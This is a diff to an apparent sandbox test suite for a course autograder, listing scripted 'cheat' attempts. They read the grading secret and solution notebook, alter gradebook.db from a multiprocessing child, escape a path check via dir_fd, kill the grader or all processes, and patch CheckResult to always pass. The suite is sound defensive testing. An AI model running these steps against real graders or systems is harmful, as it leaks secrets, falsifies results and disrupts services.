@@ -35,6 +35,9 @@ PRELUDE = textwrap.dedent(
     COURSE = os.path.abspath("../../..")  # cwd is <course>/autograded/<student>/<assignment>
     ASSIGNMENT = os.path.basename(os.getcwd())
     VICTIM_FILE = os.path.join(COURSE, "submitted", "zz_victim", ASSIGNMENT, ASSIGNMENT + ".ipynb")
+    def around(text, what="BEGIN SOLUTION"):  # what a cheat would be after in a source notebook
+        at = text.find(what)
+        return text[max(at, 0) : max(at, 0) + 300]
     def attempt(label, action):
         try:
             print("CHEAT", label, "->", repr(action())[:400])
@@ -46,7 +49,7 @@ PRELUDE = textwrap.dedent(
 # What a leak looks like when a cheat prints what it read: the course secret is checked by value.
 READ_TARGETS = """
     ("secret", lambda: open(os.path.join(COURSE, ".grading", "secret")).read()),
-    ("source", lambda: open(os.path.join(COURSE, "source", ASSIGNMENT, ASSIGNMENT + ".ipynb")).read()[-3000:]),
+    ("source", lambda: around(open(os.path.join(COURSE, "source", ASSIGNMENT, ASSIGNMENT + ".ipynb")).read())),
     ("gradebook", lambda: open(os.path.join(COURSE, "gradebook.db"), "rb").read(64)),
     ("victim", lambda: open(VICTIM_FILE).read()),
 """
@@ -158,29 +161,35 @@ CLASSES = {
         attempt("C fork", forked)
         """,
     ],
-    # D. a multiprocessing child (it never had a guard)
+    # D. a multiprocessing child (it never had a guard); its target must be importable there: exec
     "D": [
         f"""
-        import multiprocessing, sqlite3
-        def child(course):
-            db = sqlite3.connect(course + "/gradebook.db"); db.execute({SQL_CHEAT!r}); db.commit()
-            open(course + "/{MARKER}-D1", "w").write("x")
+        import multiprocessing
+        CHILD = (
+            "import os, sqlite3; course = os.environ['LAB_CHEAT_COURSE']; "
+            "db = sqlite3.connect(course + '/gradebook.db'); db.execute({SQL_CHEAT!r}); db.commit(); "
+            "open(course + '/{MARKER}-D1', 'w').write('x')"
+        )
+        os.environ["LAB_CHEAT_COURSE"] = COURSE
         def run(method):
             ctx = multiprocessing.get_context(method)
-            p = ctx.Process(target=child, args=(COURSE,)); p.start(); p.join(20); return p.exitcode
+            p = ctx.Process(target=exec, args=(CHILD,)); p.start(); p.join(20); return p.exitcode
         attempt("D spawn", lambda: run("spawn"))
-        attempt("D fork", lambda: run("fork"))
         attempt("D forkserver", lambda: run("forkserver"))
+        attempt("D fork", lambda: run("fork"))
         """,
     ],
     # E. os.open with dir_fd after an unchecked chdir
     "E": [
         """
         def dirfd():
-            os.chdir("/")
-            fd = os.open(COURSE.lstrip("/"), os.O_RDONLY | os.O_DIRECTORY)
-            return os.read(os.open(".grading/secret", os.O_RDONLY, dir_fd=fd), 100)
-        attempt("E dir_fd secret", dirfd)
+            # A path checked against the working directory, opened against another folder: stand
+            # three levels deep inside Python's own (allowed) tree, open relative to our folder.
+            own = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
+            os.chdir(os.path.join(os.path.dirname(os.__file__), "json"))
+            target = f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
+            return around(os.read(os.open(target, os.O_RDONLY, dir_fd=own), 1 << 20).decode())
+        attempt("E dir_fd source notebook", dirfd)
         """,
         """
         def write_victim():
@@ -210,7 +219,7 @@ CLASSES = {
         """,
     ],
     # G. killing the grader
-    "G1": ["""attempt("G killpg", lambda: os.killpg(os.getpgid(0), 9))"""],
+    "G1": ["""attempt("G killpg of the grader", lambda: os.killpg(os.getpgid(os.getppid()), 9))"""],
     "G2": ["""attempt("G kill parent", lambda: os.kill(os.getppid(), 9))"""],
     "G3": ["""attempt("G kill everyone", lambda: os.kill(-1, 9))"""],
     # H. reading memory: the hidden seed, the expected answers, the grader's memory
@@ -254,7 +263,6 @@ CLASSES = {
         try:
             from lab_code.exercises.checking import CheckResult
             CheckResult.__bool__ = lambda self: True
-            CheckResult.passed = property(lambda self: self.total)
         except ImportError as exc:
             print("CHEAT I no CheckResult here:", exc)
         """,
